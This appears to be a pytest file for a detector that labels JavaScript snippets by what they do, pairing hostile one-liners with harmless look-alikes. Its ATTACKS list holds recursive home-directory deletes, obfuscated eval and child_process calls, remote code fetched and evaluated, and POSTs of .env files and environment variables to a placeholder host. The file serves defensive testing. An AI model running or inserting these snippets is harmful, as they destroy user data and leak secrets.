"""What javascript snippets do, and their harmless twins."""

from __future__ import annotations

from collections.abc import Callable

import pytest

LANGUAGE = "javascript"
SCRIPTS = {"/w/helper.py": "pass"}
ATTACKS = [
    ("require('fs').rmSync('/home/u',{recursive:true})", "delete /home/u R"),
    ("const {execSync:e}=require('child_process'); e('rm -rf ~')", "shell rm -rf ~"),
    ("import {rm} from 'node:fs/promises'; await rm(process.env.HOME+'/x')", "delete /home/u/x"),
    ("require('child'+'_process')['exe'+'c'](`rm ${a}`)", "shell rm \x00"),
    ("globalThis['ev'+'al']('1')", "code javascript 1"),
    ("(0,eval)('x')", "code javascript x"),
    ("new Function('return 1')()", "code javascript return 1"),
    ("eval(Buffer.from('cm0=','base64').toString())", "code javascript rm"),
    ("eval(atob('cm0='))", "code javascript rm"),
    ("fetch('http://e/x').then(r=>r.text()).then(t=>eval(t))", "run-fetched http://e/x"),
    ("fetch('http://e',{method:'POST',body:require('fs').readFileSync('.env')})", "send http://e </w/.env"),
    ("fetch('http://e',{method:'POST',body:JSON.stringify(process.env)})", "send http://e environment"),
    ("require('child_process').execFileSync('rm',['-rf',x])", "argv rm -rf \x00"),
    ("for (const f of ['a','b']) fs.unlinkSync(f)", "delete /w/b"),
    ("['a','b'].forEach(f=>require('fs').unlinkSync(f))", "delete /w/b"),
    ("import('fs').then(fs=>fs.rmSync('/x'))", "delete /x"),
    ("require('rimraf').sync('/x')", "delete /x R"),
    ("class A{constructor(p){this.p=p} go(){require('fs').unlinkSync(this.p)}} new A('/z').go()", "delete /z"),
    ("f('/q'); function f(x) { require('fs').unlinkSync(x) }", "delete /q"),
    ("Deno.removeSync('/x',{recursive:true})", "delete /x R"),
    ("require('fs')[k]('/z')", "unresolved \x00"),
    ("function f(x: string): void { require('fs').unlinkSync('/t') }", "delete /t"),
    ("const d=new (require('better-sqlite3'))('x.db'); d.exec('DROP TABLE a')", "code sql DROP TABLE a"),
    ("require('fs').readdirSync('/d').forEach(f=>require('fs').unlinkSync('/d/'+f))", "delete /d/* G"),
    ("[].constructor.constructor('x')()", "code javascript x"),
]
HARMLESS = [
    "console.log('rm -rf /')",
    "// require('fs').rmSync('/')\n1+1",
    "/rm/.exec('x'); re.exec(str)",
    "const s = `execSync('rm')`; s.length",
    "new Map().delete('x'); [1].map(x => x*2)",
]


@pytest.mark.parametrize(("source", "expected"), ATTACKS)
def test_found(brief_of: Callable[..., set[str]], source: str, expected: str) -> None:
    assert expected in brief_of(LANGUAGE, source, ("A1", "A2") if "A1" in expected else (), scripts=SCRIPTS)


@pytest.mark.parametrize("source", HARMLESS)
def test_harmless(brief_of: Callable[..., set[str]], source: str) -> None:
    assert brief_of(LANGUAGE, source) == set()
